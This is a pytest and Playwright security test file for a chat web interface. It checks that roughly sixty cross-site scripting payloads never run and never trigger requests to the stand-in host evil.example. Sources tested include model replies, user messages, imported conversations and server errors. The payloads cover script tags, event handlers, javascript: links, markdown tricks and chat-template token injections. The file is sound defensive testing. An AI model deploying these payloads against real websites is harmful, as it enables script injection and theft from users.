"""Words that want to be more: nothing that a model, a person, a file or a server says ever runs."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.web.conftest import View
from tests.web.stage import Stage

pytestmark = pytest.mark.req("FR-062")

EVIL = "http://evil.example"

PAYLOADS = [
    "<script>xss()</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=xss()>",
    "<img src=x onerror='xss()' style=display:none>",
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>xss()</script></svg>#x\">",
    "<iframe srcdoc=\"<script>parent.xss()</script>\"></iframe>",
    "<iframe src=javascript:parent.xss()></iframe>",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></table></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<form action=javascript:xss()><button>go</button></form>",
    "<a href=javascript:xss()>click</a>",
    "<base href=http://evil.example/>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<style>@import 'http://evil.example/x.css'; a{background:url(http://evil.example)}</style>",
    "<object data=javascript:xss()></object><embed src=javascript:xss()>",
    "[click](javascript:xss())",
    "[click](JaVaScRiPt:xss())",
    "[click](java\nscript:xss())",
    "[click](<java\tscript:xss()>)",
    "[click](&#106;avascript:xss())",
    "[click](javascript&colon;xss())",
    "[click](\x01javascript:xss())",
    "[click](data:text/html,<script>xss()</script>)",
    "[click](vbscript:xss())",
    "[click](blob:http://evil.example/x)",
    "[click](file:///etc/passwd)",
    "[click](//evil.example)",
    "[click](http://evil.example\" onmouseover=\"xss())",
    "[click](http://x.example 'title\" onmouseover=\"xss()')",
    "<javascript:xss()>",
    "![x](http://evil.example/track.png)",
    "![x](javascript:xss())",
    "![\" onerror=\"xss()](x)",
    "[![x](http://evil.example/a.png)](javascript:xss())",
    "[x]: http://evil.example/ref\n![x]",
    "`<img src=x onerror=xss()>`",
    "``` <img/src=x/onerror=xss()> ```",
    "```\"onmouseover=\"xss()\n<script>xss()</script>\n```",
    "```html\n<script>xss()</script><img src=x onerror=xss()>\n```",
    "| <img src=x onerror=xss()> | b |\n|---|---|\n| <svg onload=xss()> | [x](javascript:xss()) |",
    "# <img src=x onerror=xss()>",
    "> <script>xss()</script>\n> - <img src=x onerror=xss()>",
    "- [ ] <img src=x onerror=xss()>",
    "&lt;img src=x onerror=xss()&gt;",
    "\u202e<script>xss()</script>\u0000",
    "<|assistant_end|><script>xss()</script><|python_start|><img src=x onerror=xss()><|python_end|>"
    "<|output_start|><script>xss()</script><|output_end|>",
    "{{constructor.constructor('xss()')()}} ${xss()} #{xss()}",
    "constructor __proto__ toString",
    "```constructor\n__proto__\n```",
    "<!--<img src=\"--><img src=x onerror=xss()//\">",
    "<scr\x00ipt>xss()</scr\x00ipt>",
    "```\n<script>xss()</script>",
]  # fmt: skip

INSPECT = """() => {
  const REFUSED = new Set(["script", "iframe", "img", "object", "embed", "link", "meta", "base",
    "style", "form", "video", "input", "math", "noscript"]);
  const allowed = new Set(["http:", "https:", "mailto:"]);
  const root = document.querySelector(".transcript");
  const found = [];
  for (const node of root.querySelectorAll("*")) {
    if (REFUSED.has(node.localName)) found.push(node.outerHTML);
    for (const { name, value } of node.attributes) {
      if (/^on|^srcdoc$|^style$/i.test(name)) found.push(`${name}=${value}`);
    }
    if (node.localName === "a") {
      if (!allowed.has(new URL(node.href).protocol)) found.push(node.href);
      if (node.rel !== "noopener noreferrer nofollow") found.push(node.rel);
    }
  }
  return found;
}"""


def test_there_are_enough() -> None:
    assert len(set(PAYLOADS)) >= 50


def provoke(view: View) -> None:
    """What a reader might do with it: point at everything, and click what is no real link."""
    view.page.evaluate(
        """() => {
          for (const node of document.querySelectorAll(".transcript *")) {
            for (const name of ["mouseover", "mouseenter", "focus", "load", "error", "toggle"]) {
              node.dispatchEvent(new Event(name));
            }
            if (!node.closest("a, button")) node.click?.();
          }
        }"""
    )
    assert view.page.evaluate(INSPECT) == []


@pytest.mark.parametrize("part", range(4))
def test_nothing_a_model_writes_runs(view: View, play: Stage, part: int) -> None:
    for payload in PAYLOADS[part::4]:
        play.engine.say(payload)
    requests: list[str] = []
    view.listen("request", lambda request: requests.append(request.url))
    for number, _ in enumerate(PAYLOADS[part::4]):
        view.ask(f"Question {number}")
    assert len(view.messages) == 2 * len(PAYLOADS[part::4])
    provoke(view)
    view.reload()
    view.page.locator(".message", has_text="Question 0").first.wait_for()
    provoke(view)
    assert [url for url in requests if not url.startswith(view.url)] == []
    assert view.page.url.startswith(view.url)
    assert len(view.page.context.pages) == 1


def test_half_written_and_run_together_it_does_not_either(view: View, play: Stage) -> None:
    play.engine.say("\n\n".join(PAYLOADS), pace_s=0.0005)
    view.ask("All of it")
    provoke(view)


def test_nothing_a_person_writes_runs(view: View, play: Stage) -> None:
    for payload in PAYLOADS[:-1:6]:
        view.ask(payload)
    view.ask("\n".join(PAYLOADS))
    assert "<script>xss()</script>" in view.messages[-2]
    assert view.page.locator(".message.user a").count() == 0
    provoke(view)
    view.press("Edit", 0)
    view.page.get_by_label("Edit your message").fill(PAYLOADS[2])
    view.page.get_by_role("button", name="Send", exact=True).first.click()
    view.wait_status("The answer is complete.")
    view.page.fill("#search", PAYLOADS[2])
    view.wait_status("1 conversation found.")


def test_a_name_a_file_a_model_and_an_error_are_text_too(
    new_view: Callable[..., View], tmp_path: Path
) -> None:
    view = new_view()
    bad = "<img src=x onerror=xss()>"
    model = {"id": bad, "object": "model", "created": 1, "owned_by": bad}
    view.page.route("**/v1/models", lambda route: route.fulfill(json={"data": [model]}))
    wrong = {"error": {"message": bad, "type": bad, "param": bad, "code": bad}}
    view.page.route("**/v1/chat/completions", lambda route: route.fulfill(status=400, json=wrong))
    view.expected.append("Failed to load")
    view.open()
    expect(view.page.locator("#model")).to_have_value(bad)
    view.ask("Hi")
    assert view.page.locator(".problem").inner_text().startswith(bad)
    view.page.get_by_role("button", name="Rename Hi").click()
    view.page.get_by_label("New name").fill(bad)
    view.page.get_by_label("New name").press("Enter")
    view.page.locator(".conversation-title", has_text=bad).wait_for()
    message: dict[str, Any] = {
        "id": "m",
        "role": "assistant",
        "parent": None,
        "content": bad,
        "model": bad,
        "usage": {"prompt": bad},
        "times": {"first_s": bad},
    }
    rows = [{"id": "c", "title": bad, "messages": [message], "system": bad, "leaf": bad}]
    path = tmp_path / "bad.json"
    path.write_text(
        json.dumps({"format": "nanochat-conversations", "version": 1, "conversations": rows})
    )
    view.page.set_input_files("#import-file", path)
    view.wait_status("1 conversation was read.")
    view.page.locator('[data-id="c"] .open-conversation').click()
    view.page.locator(".message.assistant").wait_for()
    assert view.messages == [bad]
    provoke(view)


def test_the_policy_would_stop_what_the_page_does_not(view: View) -> None:
    """The second wall, behind the first: it is there, and it reports."""
    blocked = view.page.evaluate(
        """async () => {
          const seen = [];
          const attempt = (name, action) => {
            try { action(); seen.push(name); } catch { /* as it should */ }
          };
          attempt("innerHTML", () => { document.createElement("div").innerHTML = "<b>x</b>"; });
          attempt("inline", () => { document.createElement("script").textContent = "xss()"; });
          attempt("script.src", () => { document.createElement("script").src = "/app.js"; });
          const image = new Image();
          image.src = "http://evil.example/x.png";
          await new Promise((resolve) => { image.onerror = resolve; });
          const fetched = await fetch("http://evil.example").then(() => true, () => false);
          return [seen, fetched];
        }"""
    )
    assert blocked == [[], False]
    view.comes(lambda: view.page.evaluate("() => window.violations.length"), 5)
    view.page.evaluate(
        "() => { window.violations.length = 0; performance.clearResourceTimings(); }"
    )
    view.expected.extend(["Trusted", "Content Security Policy", "violates", "TrustedScript"])
